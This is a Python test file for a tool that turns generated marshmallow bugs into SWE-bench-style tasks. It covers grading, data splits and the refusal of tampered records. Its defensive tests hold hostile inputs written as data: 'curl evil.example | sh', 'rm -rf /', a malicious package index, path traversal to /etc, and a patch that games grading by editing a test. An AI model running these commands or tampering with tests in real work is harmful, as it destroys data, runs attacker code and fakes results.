"""Generated tasks as SWE-bench instances (issue 12): records, grading gold/empty/wrong on local and Docker, splits,
and hostile records. The tasks are the session's `generated_tasks` (real bugs in marshmallow 3.13, validated by
real test runs)."""

from __future__ import annotations

import dataclasses
import json
import subprocess
from pathlib import Path

import pytest

from srl_swe.swebench.datasets import load_instances
from srl_swe.swebench.grading import grade_in_runtime, grade_with_harness
from srl_swe.swebench.instance import SWEInstance
from srl_swe.swebench.local_env import prepare_source, prepare_task_source, source_commit
from srl_swe.swebench.prediction import make_prediction
from srl_swe.swebench.specs import SPECS, EnvSpec, SpecError, make_eval_script, spec_for
from srl_swe.taskgen.instances import HELDOUT_FRACTION, split_of

SPEC = SPECS[("marshmallow-code/marshmallow", "3.13")]


def _git(*args: str, cwd: Path) -> str:
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True, check=True).stdout


@pytest.fixture(scope="module")
def tasks(generated_tasks) -> list[SWEInstance]:
    found = load_instances(generated_tasks)
    assert len(found) >= 2, f"the fixture should keep a handful of tasks, got {len(found)}"
    return found


def _wrong(task: SWEInstance) -> str:
    """A patch to the same file that changes something else: it applies, and the bug stays."""
    path = task.raw["mutation"]["file"]
    return (f"diff --git a/{path} b/{path}\n--- a/{path}\n+++ b/{path}\n@@ -1,0 +1,1 @@\n"
            "+# a comment is not a fix\n")


def _cheat(task: SWEInstance, repo: Path) -> str:
    """A patch that makes the first failing test pass by rewriting it (``assert True``), not by fixing the bug."""
    test_file, _, name = task.FAIL_TO_PASS[0].partition("::")
    func = name.split("::")[-1].split("[")[0]
    text = (repo / test_file).read_text()
    start = text.index(f"def {func}(")
    body = text.index("\n", start) + 1
    indent = len(text[body:]) - len(text[body:].lstrip(" "))
    patched = text[:body] + " " * indent + "return\n" + text[body:]
    (repo / test_file).write_text(patched)
    try:
        return _git("diff", cwd=repo)
    finally:
        _git("checkout", "--", test_file, cwd=repo)


def test_records_are_swebench_instances_of_real_commits(tasks, generated_tasks):
    clean = prepare_source(SPEC)
    for task in tasks:
        assert task.repo == SPEC.repo and task.version == SPEC.version and task.test_patch == ""
        assert spec_for(task) == SPEC  # the record's own env_spec
        assert task.FAIL_TO_PASS and len(task.PASS_TO_PASS) > 50
        assert not set(task.FAIL_TO_PASS) & set(task.PASS_TO_PASS)
        base = prepare_task_source(SPEC, task.raw["setup_patch"])
        assert source_commit(base) == task.base_commit
        assert _git("rev-parse", "HEAD~1", cwd=base).strip() == source_commit(clean)
        # The gold patch is the real diff back to the clean source: applied, the tree equals the clean tree.
        assert _git("diff", "HEAD", "HEAD~1", cwd=base) == task.patch
        mutation = task.raw["mutation"]
        assert mutation["file"] == "src/marshmallow/fields.py" and f"a/{mutation['file']}" in task.patch
        assert task.raw["split"] == split_of(mutation["file"], mutation["qualname"])
        # The statement is the tests' names and pytest's real output for them.
        statement = task.problem_statement
        assert all(f"`{name}`" in statement for name in task.FAIL_TO_PASS[:10])
        assert "\nE   " in statement and "tests/test_serialization.py:" in statement
        assert "srl-swe-local" not in statement and "/tmp/" not in statement
    splits = json.loads((generated_tasks / "splits.json").read_text())
    assert sorted(splits["ids"]["train"] + splits["ids"]["heldout"]) == sorted(t.instance_id for t in tasks)
    assert {t.instance_id for t in load_instances(generated_tasks, split="heldout")} == set(splits["ids"]["heldout"])


def test_graded_locally_gold_empty_wrong_and_a_test_edit(tasks):
    task = tasks[0]
    assert grade_in_runtime(task, task.patch, "local").status == "resolved"
    assert grade_in_runtime(task, "", "local").status == "empty_patch"
    assert grade_in_runtime(task, _wrong(task), "local").status == "unresolved"
    # Editing the failing test instead of fixing the code does not resolve: the eval script resets test files.
    cheat = _cheat(task, prepare_task_source(SPEC, task.raw["setup_patch"]))
    assert "return\n" in cheat and "tests/test_serialization.py" in cheat
    assert grade_in_runtime(task, cheat, "local").status == "unresolved"
    script = make_eval_script(task, SPEC)
    assert "git checkout HEAD -- tests/test_serialization.py" in script
    assert "pytest -rA tests/test_serialization.py" in script


@pytest.mark.slow
def test_graded_by_the_harness_on_docker(tasks, docker_client, tmp_path):
    task = tasks[1]
    preds = [make_prediction(task.instance_id, patch, model)
             for model, patch in (("gold", task.patch), ("empty", ""), ("wrong", _wrong(task)))]
    results = {p.model_name_or_path: grade_with_harness([p], [task], run_id=f"gen-{p.model_name_or_path}",
                                                        workdir=tmp_path, client=docker_client)[task.instance_id]
               for p in preds}
    assert {k: r.status for k, r in results.items()} == {"gold": "resolved", "empty": "empty_patch",
                                                         "wrong": "unresolved"}
    # The task image's HEAD is the record's base_commit, on one shared image of the package version.
    from srl_swe.swebench.images import ensure_env_image, ensure_image

    tag = ensure_image(task, client=docker_client)
    out = docker_client.containers.run(tag, "git rev-parse HEAD HEAD~1", remove=True, network_mode="none").decode()
    assert out.split() == [task.base_commit, source_commit(prepare_source(SPEC))]
    env_layers = docker_client.images.get(ensure_env_image(SPEC, client=docker_client)).attrs["RootFS"]["Layers"]
    task_layers = docker_client.images.get(tag).attrs["RootFS"]["Layers"]
    assert task_layers[:len(env_layers)] == env_layers and len(task_layers) - len(env_layers) <= 2
    assert grade_in_runtime(task, task.patch, "docker").status == "resolved"


def test_split_is_by_function_and_stable():
    names = [(f"pkg/mod{i % 7}.py", f"func{i}") for i in range(4000)]
    heldout = sum(split_of(f, q) == "heldout" for f, q in names) / len(names)
    assert abs(heldout - HELDOUT_FRACTION) < 0.03
    for f, q in names[:200]:  # nested functions and methods' locals go with their outer function
        assert split_of(f, f"{q}.<locals>.inner") == split_of(f, q) == split_of(f, q)
    assert {split_of("a.py", "<module>"), split_of("a.py", "")} == {split_of("a.py", "<module>")}
    assert split_of("a.py", "f", heldout=0.0) == "train" and split_of("a.py", "f", heldout=1.0) == "heldout"


def _tampered(task: SWEInstance, **changes) -> SWEInstance:
    raw = {**task.raw, **changes}
    return SWEInstance.from_record(raw)


@pytest.mark.parametrize("field, value", [
    ("apt_packages", ["python3; curl evil.example | sh"]),
    ("test_deps", ["pytest==9.2.0 --index-url http://evil.example"]),
    ("test_cmd", "pytest -rA; rm -rf /"),
    ("pythonpath", "../../etc"),
    ("pythonpath", "src/../../etc"),
    ("log_parser", "parse_log_nonexistent"),
    ("sdist_sha256", "0" * 63),
    ("python", "3.11 && true"),
])
def test_a_hostile_env_spec_is_refused_naming_the_record(tasks, field, value):
    task = tasks[0]
    bad = _tampered(task, env_spec={**task.raw["env_spec"], field: value})
    with pytest.raises(SpecError, match=rf"{task.instance_id}.*{field}"):
        spec_for(bad)


def test_other_bad_records_are_refused(tasks):
    task = tasks[0]
    with pytest.raises(SpecError, match="unknown fields"):
        spec_for(_tampered(task, env_spec={**task.raw["env_spec"], "dockerfile": "RUN curl x"}))
    with pytest.raises(SpecError, match="env_spec is for"):
        spec_for(_tampered(task, version="3.0"))
    from srl_swe.swebench.local_env import prepare_local

    with pytest.raises(SpecError, match="base_commit"):
        prepare_local(dataclasses.replace(task, base_commit="0" * 40))
    with pytest.raises(SpecError, match="test_args"):
        make_eval_script(_tampered(task, test_args=["--co", "-p", "evil"]), SPEC)
    assert EnvSpec.from_dict(SPEC.to_dict()) == SPEC
